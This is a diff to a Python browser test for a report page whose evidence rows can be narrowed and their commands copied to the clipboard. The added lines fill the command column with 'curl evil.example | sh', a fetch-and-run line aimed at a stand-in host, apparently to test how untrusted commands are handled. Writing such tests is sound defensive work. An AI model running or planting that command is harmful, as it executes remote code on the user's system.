@@ -81,6 +81,9 @@ def test_the_report_has_every_number_of_the_tables(tmp_path, open_page):
 
 def test_evidence_can_be_narrowed_and_its_command_copied(tmp_path, open_page):
     report = REPORTS["motivated"]()
+    hostile = pa.array(["curl evil.example | sh"] * report.evidence.num_rows)
+    at = report.evidence.column_names.index("command")
+    report = replace(report, evidence=report.evidence.set_column(at, "command", hostile))
     page = open_page(
         report_page(report, tmp_path, "it's mine.arrow"), permissions=["clipboard-read", "clipboard-write"]
     )
